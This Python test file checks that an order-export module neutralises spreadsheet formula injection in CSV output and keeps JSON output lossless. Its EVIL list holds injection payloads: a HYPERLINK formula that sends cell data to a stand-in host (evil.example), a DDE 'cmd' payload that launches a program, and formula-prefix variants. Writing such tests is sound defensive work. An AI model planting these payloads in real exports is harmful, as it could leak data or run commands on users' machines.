"""Cells that no spreadsheet takes for a formula."""

from __future__ import annotations

import csv
import io
import json
from datetime import UTC, datetime

import pytest
from hypothesis import given
from hypothesis import strategies as st

from orderlink.report.export import COLUMNS, as_csv, as_json
from orderlink.report.spreadsheet import tamed, untamed

NOW = datetime(2026, 7, 1, 12, 0, tzinfo=UTC)
EVIL = [
    '=HYPERLINK("http://evil.example/?"&A1)',
    "+31612345678",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    '"=1+1',
    "'=1+1",
    "\uff1d1+1",
    "mug;=1+1",
    "mug, =1+1",
    'mug;"=1+1',
    "mug\t@A1",
]


def cells_of(text: str, separator: str) -> list[str]:
    """Take a file apart as crudely as a spreadsheet with other settings may."""
    return [cell for line in text.splitlines() for cell in line.split(separator)]


def is_formula(cell: str) -> bool:
    return cell.strip(" \t\"'").startswith(("=", "+", "-", "@", "\uff1d")) and "'" not in cell


@pytest.mark.parametrize("text", EVIL)
def test_what_could_be_a_formula_gets_an_apostrophe(text: str) -> None:
    safe = tamed(text)
    assert safe != text
    assert untamed(safe) == text
    for separator in (",", ";", "\t"):
        assert not any(map(is_formula, cells_of(safe, separator))), safe


@pytest.mark.parametrize("text", ["12.99", "-12.99", "0", "MUG-RED", "a - b", "x=1", "3S+A@b", ""])
def test_numbers_and_plain_words_stay_as_they_are(text: str) -> None:
    assert tamed(text) == text


@given(st.text(alphabet="=+-@;,'\"\t\r\n |1.a \uff1d"))
def test_the_apostrophes_can_be_taken_away_again(text: str) -> None:
    assert untamed(tamed(text)) == text


def record(what: str, text: str) -> dict[str, object]:
    return dict.fromkeys(COLUMNS[what], text)


@pytest.mark.parametrize("what", COLUMNS)
@pytest.mark.parametrize("european", [False, True])
def test_no_cell_of_an_export_is_a_formula_however_it_is_opened(what: str, european: bool) -> None:
    records = [record(what, text) for text in EVIL]
    text = "".join(as_csv(what, records, european=european))
    assert text.startswith("\ufeff") is european
    own = ";" if european else ","
    rows = list(csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline=""), delimiter=own))
    assert [len(row) for row in rows] == [len(COLUMNS[what])] * (len(EVIL) + 1)
    for cell in (cell for row in rows for cell in row):
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r", "\uff1d")), cell
    for other in (",", ";", "\t"):
        assert not any(map(is_formula, cells_of(text, other)))


def test_json_loses_nothing() -> None:
    records = [record("orders", text) for text in [*EVIL, "Zo\u00eb \u202e", "-12.99"]]
    text = "".join(as_json("orders", records, NOW))
    assert text.isascii()
    document = json.loads(text)
    assert document == {"version": 1, "exported_at": "2026-07-01T12:00:00Z", "orders": records}
    assert json.loads("".join(as_json("orders", [], NOW)))["orders"] == []


def test_lists_details_and_what_is_not_there_are_one_cell_each() -> None:
    one = record("problems", "") | {"details": {"sku": "=A1", "ean": ""}, "solved_at": None}
    one |= {"connection": ["3S1", "3S2"], "order": True, "why": "two\nlines \x1b[31m"}
    text = "".join(as_csv("problems", [one], european=False))
    (row,) = csv.DictReader(io.StringIO(text, newline=""))
    assert row["details"] == "sku: =A1; ean:"
    assert (row["solved_at"], row["connection"], row["order"]) == ("", "3S1 3S2", "yes")
    assert row["why"] == "two lines [31m"
